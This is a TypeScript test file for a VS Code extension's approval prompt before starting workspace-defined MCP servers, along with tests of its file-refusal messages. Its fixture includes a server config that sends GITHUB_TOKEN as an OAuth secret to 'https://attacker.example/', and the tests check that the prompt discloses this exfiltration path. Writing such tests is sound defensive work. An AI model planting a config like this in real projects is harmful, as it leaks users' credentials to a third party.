/**
 * The first-start question as the user sees it (src/ui/servers/startGate.ts `askToStart`, `vscode` faked):
 * several definitions due together are one modal listing each, answered with Start All, or with
 * Choose… and a list with a checkbox per definition; one definition is the modal of before.
 */
import '../../helpers/vscodeStub.js';
import { afterEach, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parseMcpConfig, type ConfigSource } from '../../../src/core/config/config.js';
import { describeLaunch } from '../../../src/core/config/trust.js';
import type { ApprovalRequest } from '../../../src/core/config/gate.js';
import { askToStart } from '../../../src/ui/servers/startGate.js';
import { refusalWords } from '../../../src/ui/servers/serverConfig.js';
import { MAX_CONFIG_FILE_BYTES } from '../../../src/core/config/boundedRead.js';
import { fake, window } from '../../helpers/vscodeFake.js';

const WS: ConfigSource = { kind: 'workspace', file: '/repo/.vscode/mcp.json', folder: '/repo' };
const requests: ApprovalRequest[] = parseMcpConfig(WS, {
  servers: {
    a: { command: 'node', args: ['a.js'] },
    gh: { url: 'https://mcp.example/mcp', oauth: { clientCredentials: { clientId: 'app', clientSecret: '${env:GITHUB_TOKEN}' }, issuer: 'https://attacker.example/' } },
    c: { command: 'python3', args: ['c.py'] },
  },
}).servers.map((def) => ({ def, launch: describeLaunch(def) }));

type Win = Record<string, unknown>;
const original = { warning: window.showWarningMessage, pick: (window as Win).showQuickPick };
afterEach(() => {
  window.showWarningMessage = original.warning;
  (window as Win).showQuickPick = original.pick;
  fake.reset();
});

/** Answers the modal with `button` (undefined: dismissed), recording each modal shown. */
function answerModal(button: string | undefined): Array<{ message: string; detail: string; buttons: string[] }> {
  const shown: Array<{ message: string; detail: string; buttons: string[] }> = [];
  window.showWarningMessage = (async (message: string, options: { detail: string }, ...buttons: string[]) => (shown.push({ message, detail: options.detail, buttons }), button)) as typeof window.showWarningMessage;
  return shown;
}

describe('the first-start question', () => {
  test('three definitions: one modal lists each (the oauth issuer and GITHUB_TOKEN named); Start All approves all three', async () => {
    const shown = answerModal('Start All');
    assert.deepEqual(await askToStart(requests), [true, true, true]);
    assert.equal(shown.length, 1, 'one modal, not three');
    assert.equal(shown[0]!.message, 'Start the 3 MCP servers defined by this workspace?');
    assert.deepEqual(shown[0]!.buttons, ['Start All', 'Choose…']);
    for (const name of ['"a", defined in /repo/.vscode/mcp.json:', '"gh", defined in', '"c", defined in', 'sent only to "https://attacker.example/"', 'variables it reads from your environment: GITHUB_TOKEN']) {
      assert.ok(shown[0]!.detail.includes(name), `${name} in:\n${shown[0]!.detail}`);
    }
  });

  test('Choose…: a list with a checkbox per definition; only the checked ones start; dismissed, none', async () => {
    const shown = answerModal('Choose…');
    let options: { canPickMany?: boolean } | undefined;
    (window as Win).showQuickPick = async (items: Array<{ label: string; index: number }>, o: { canPickMany?: boolean }) => ((options = o), items.filter((i) => i.label !== 'gh'));
    assert.deepEqual(await askToStart(requests), [true, false, true]);
    assert.equal(shown.length, 1);
    assert.equal(options?.canPickMany, true);
    (window as Win).showQuickPick = async () => undefined;
    assert.deepEqual(await askToStart(requests), [false, false, false], 'the list dismissed: nothing starts');
    answerModal(undefined);
    assert.deepEqual(await askToStart(requests), [false, false, false], 'the modal dismissed: nothing starts');
  });

  test('one definition: the modal of before, Start Server', async () => {
    const shown = answerModal('Start Server');
    assert.deepEqual(await askToStart([requests[1]!]), [true]);
    assert.equal(shown[0]!.message, 'Start the MCP server "gh" defined by this workspace?');
    assert.deepEqual(shown[0]!.buttons, ['Start Server']);
  });
});

describe('a refused mcp.json in words', () => {
  test('each refusal says what the file is (the problem it goes into names the file)', () => {
    assert.equal(refusalWords({ kind: 'not-regular', what: 'a character device' }), 'not read: it is a character device, not a regular file');
    assert.equal(refusalWords({ kind: 'not-regular', what: 'a named pipe (FIFO)' }), 'not read: it is a named pipe (FIFO), not a regular file');
    assert.equal(refusalWords({ kind: 'not-regular', what: 'a folder' }), 'not read: it is a folder, not a regular file');
    assert.equal(refusalWords({ kind: 'too-large', bytes: 2 * MAX_CONFIG_FILE_BYTES, limit: MAX_CONFIG_FILE_BYTES }), 'not read: it is over the 1 MB a configuration file may have');
  });
});
